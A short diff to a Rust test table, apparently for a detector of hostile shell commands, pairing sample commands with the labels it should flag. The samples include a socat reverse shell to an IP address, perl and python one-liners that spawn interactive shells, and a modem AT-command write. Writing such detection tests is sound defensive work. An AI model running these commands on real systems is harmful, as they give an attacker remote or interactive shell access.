@@ -179,7 +179,10 @@ mod tests {
             ("socat TCP:1.2.3.4:5 EXEC:/bin/sh,pty", vec!["socat", "socat exec"]),
             ("python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", vec!["pty.spawn", "shell spawned"]),
             ("echo 'AT+CGDCONT=1' > /dev/ttyUSB2", vec!["AT command", "modem device"]),
-            ("perl -e 'use Socket; socket(S,1,2,3); exec(\"/bin/sh -i\");'", vec!["shell spawned", "socket"]),
+            (
+                "perl -e 'use Socket; socket(S,1,2,3); exec(\"/bin/sh -i\");'",
+                vec!["bash -i", "shell spawned", "socket"],
+            ),
             ("subprocess.call([\"/bin/bash\", \"-i\"])", vec!["shell spawned"]),
             ("  # nc -e /bin/sh, mkfifo", vec![]),
             ("echo synchronous; scp -R x y; hash -i; ssh-agent -D", vec![]),
